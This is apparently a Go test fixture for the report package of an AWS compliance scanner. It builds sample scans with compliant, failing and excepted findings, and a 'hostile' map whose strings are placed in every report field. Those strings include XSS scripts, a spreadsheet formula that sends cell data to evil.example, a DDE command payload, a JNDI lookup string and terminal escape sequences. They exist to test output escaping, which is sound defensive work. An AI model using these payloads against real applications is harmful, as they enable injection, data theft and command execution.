package report_test

import (
	"strings"
	"time"

	"github.com/knowngood/knowngood"
	"github.com/knowngood/knowngood/internal/finding"
	"github.com/knowngood/knowngood/internal/report"
)

var (
	began = time.Date(2026, 11, 24, 8, 0, 0, 0, time.UTC)
	here  = knowngood.Place{Partition: "aws", Account: "111122223333", Region: "eu-west-1"}
	down  = knowngood.Place{Partition: "aws", Account: "111122223333", Region: "us-east-1"}
)

// hostile is what somebody may write into a name or a tag.
var hostile = map[string]string{
	"html":       `"><script>alert(1)</script><img src=x onerror=alert(1)>&amp;`,
	"formula":    `=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"fullwidth":  "＝cmd|' /C calc'!A0",
	"control":    "bell\a escape\x1b[2J\x1b]0;owned\a null\x00 delete\x7f",
	"lines":      "first\nsecond\r\nthird\tfourth\u2028fifth",
	"rtl":        "user\u202egnp.exe \u2066isolated\u2069 שלום مرحبا",
	"long":       strings.Repeat("very long ", 300),
	"word":       strings.Repeat("x", 5000),
	"not utf-8":  "bad \xff\xfe bytes",
	"cdata":      "]]> <!-- --> <?xml ?>",
	"template":   "{{.Secret}} ${jndi:ldap://x} `code`",
	"javascript": "javascript:alert(1)",
	"comma":      `a,"b";c`,
}

func key(place knowngood.Place, kind, id string) knowngood.ResourceKey {
	return knowngood.ResourceKey{Account: place.Account, Region: place.Region, Type: kind, ID: id}
}

const (
	volume = "AWS::EC2::Volume"
	bucket = "AWS::S3::Bucket"
	topic  = "AWS::SNS::Topic"
	user   = "AWS::IAM::User"
)

// estate is a scan that has something of everything: what passed and failed, what an
// exception is on, a member that was denied, a service that was, a Region that is down,
// a rule that is missing, and a finding that could not be confirmed.
func estate() report.Scan {
	s := report.Scan{
		Version: "v1.2.3", Principal: "arn:aws:iam::111122223333:user/operator", Places: []knowngood.Place{here, down}, Began: began, Took: 1500 * time.Millisecond,
		Packs: []string{"baseline", "encryption", "identity"}, Resources: 7, Calls: 9, ARNs: map[knowngood.ResourceKey]string{},
		Rules: []report.Rule{
			{Name: "encrypted-volumes", Pack: "encryption", Identifier: "ENCRYPTED_VOLUMES", Title: "EBS volume is not encrypted", Description: "Attached volumes are encrypted.", Severity: knowngood.High, Controls: []string{"EC2.3"}, Source: "https://docs.aws.amazon.com/config/latest/developerguide/encrypted-volumes.html"},
			{Name: "sns-encrypted-kms", Pack: "encryption", Identifier: "SNS_ENCRYPTED_KMS", Title: "SNS topic is not encrypted", Description: "Topics are encrypted with a KMS key.", Severity: knowngood.Medium, Controls: []string{"SNS.1"}},
			{Name: "s3-public", Pack: "baseline", Identifier: "S3_BUCKET_LEVEL_PUBLIC_ACCESS_PROHIBITED", Title: "S3 bucket does not block public access", Description: "Buckets block public access.", Severity: knowngood.High, Controls: []string{"S3.8", "CIS AWS Foundations Benchmark v5.0.0/2.1.4"}},
			{Name: "s3-versioning", Pack: "baseline", Identifier: "S3_BUCKET_VERSIONING_ENABLED", Title: "S3 bucket keeps no versions", Description: "Buckets keep versions.", Severity: knowngood.Low, Controls: []string{"S3.14"}},
			{Name: "iam-user-mfa-enabled", Pack: "identity", Identifier: "IAM_USER_MFA_ENABLED", Title: "IAM user has no MFA device", Description: "Users have an MFA device.", Severity: knowngood.Critical, Controls: []string{"IAM.19"}},
			{Name: "of-tomorrow", Pack: "baseline", Identifier: "OF_TOMORROW", Missing: "the library has no rule OF_TOMORROW"},
		},
		Affected: func(e knowngood.ReadError) []string {
			return map[string][]string{volume: {"encrypted-volumes"}, topic: {"sns-encrypted-kms"}, user: {"iam-user-mfa-enabled"}}[e.Type]
		},
	}
	judge := func(rule string, k knowngood.ResourceKey, c knowngood.Compliance, why string) {
		s.Verdicts = append(s.Verdicts, knowngood.Evaluation{Rule: rule, Resource: k, Compliance: c, Annotation: why, Time: began})
	}
	found := func(rule string, k knowngood.ResourceKey, sev knowngood.Severity, why, title string) *knowngood.Finding {
		s.Findings = append(s.Findings, knowngood.Finding{
			ID: finding.ID(rule, k, 0), Rule: rule, Severity: sev, Resource: k, Title: title, Annotation: why, State: knowngood.FindingOpen, Opened: began.Add(-time.Hour), Updated: began,
		})
		return &s.Findings[len(s.Findings)-1]
	}
	good, bad := key(here, volume, "vol-1"), key(here, volume, "vol-2")
	s.ARNs[good], s.ARNs[bad] = "arn:aws:ec2:eu-west-1:111122223333:volume/vol-1", "arn:aws:ec2:eu-west-1:111122223333:volume/vol-2"
	judge("encrypted-volumes", good, knowngood.Compliant, "")
	judge("encrypted-volumes", bad, knowngood.NonCompliant, "not encrypted")
	found("encrypted-volumes", bad, knowngood.High, "not encrypted", "500 GiB gp3")

	open, denied := key(here, bucket, "acme-open"), key(here, bucket, "acme-denied")
	s.ARNs[open], s.ARNs[denied] = "arn:aws:s3:::acme-open", "arn:aws:s3:::acme-denied"
	judge("s3-public", open, knowngood.NonCompliant, "public access is not blocked")
	f := found("s3-public", open, knowngood.High, "public access is not blocked", "")
	f.State, f.Reason = knowngood.FindingExcepted, "ticket OPS-7, until 2027"
	judge("s3-public", denied, knowngood.InsufficientData, "supplementaryConfiguration.PublicAccessBlockConfiguration could not be read: s3:GetPublicAccessBlock: AccessDenied")
	f = found("s3-public", denied, knowngood.High, "public access is not blocked", "")
	f.Reason = "not confirmed: INSUFFICIENT_DATA: s3:GetPublicAccessBlock: AccessDenied"
	judge("s3-versioning", open, knowngood.Compliant, "")
	judge("s3-versioning", denied, knowngood.Compliant, "")
	judge("sns-encrypted-kms", key(here, topic, "alarms"), knowngood.NotApplicable, "")
	judge("iam-user-mfa-enabled", key(knowngood.Place{Account: here.Account, Region: "global"}, user, "AIDA1"), knowngood.Compliant, "")

	s.Unreadable = []knowngood.ReadError{
		{Place: here, Type: bucket, ID: "acme-denied", Path: "supplementaryConfiguration.PublicAccessBlockConfiguration", Service: "s3", Operation: "GetPublicAccessBlock", Code: "AccessDenied", Message: "Access Denied"},
		{Place: here, Type: topic, Service: "sns", Operation: "ListTopics", Code: "AuthorizationError", Message: "not authorized to perform: SNS:ListTopics"},
		{Place: down, Type: volume, Service: "ec2", Operation: "DescribeVolumes", Code: "NoResponse", Message: "connection refused"},
	}
	finding.Sort(s.Findings)
	return s
}

// nasty is a scan in which everything that somebody else may write is hostile.
func nasty() report.Scan {
	s := estate()
	for name, text := range hostile {
		k := key(here, bucket, text)
		s.ARNs[k] = "arn:aws:s3:::" + text
		s.Verdicts = append(s.Verdicts, knowngood.Evaluation{Rule: "s3-public", Resource: k, Compliance: knowngood.NonCompliant, Annotation: text, Time: began})
		s.Findings = append(s.Findings, knowngood.Finding{ID: finding.ID("s3-public", k, 0), Rule: "s3-public", Severity: knowngood.High, Resource: k, Title: text, Annotation: text, State: knowngood.FindingExcepted, Reason: text, Opened: began})
		s.Rules = append(s.Rules, report.Rule{Name: "rule " + name + " " + text, Pack: "pack " + text, Title: text, Description: text, Severity: knowngood.Low, Source: text, Missing: text})
		s.Unreadable = append(s.Unreadable, knowngood.ReadError{Place: here, Type: user, ID: text, Service: "iam", Operation: "GetUser", Code: "Bad" + text, Message: text})
	}
	s.Principal = hostile["html"]
	finding.Sort(s.Findings)
	return s
}
